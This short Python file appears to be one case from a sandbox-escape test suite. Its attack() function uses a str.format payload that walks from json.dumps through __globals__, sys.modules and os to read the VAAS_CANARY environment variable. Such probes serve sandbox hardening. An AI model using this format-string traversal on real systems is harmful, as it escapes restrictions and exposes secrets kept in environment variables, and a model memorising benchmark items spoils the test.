"""No app reads attributes by handing a string"s format to another function."""

CLASS = "format"
BOUNDARY = "both"
NEEDS = ("json",)


import json


def attack():
    text = "{0.__globals__[codecs].sys.modules[os].environ[VAAS_CANARY]}"
    return "ESCAPED: " + list(map(str.format, [text], [json.dumps]))[0]
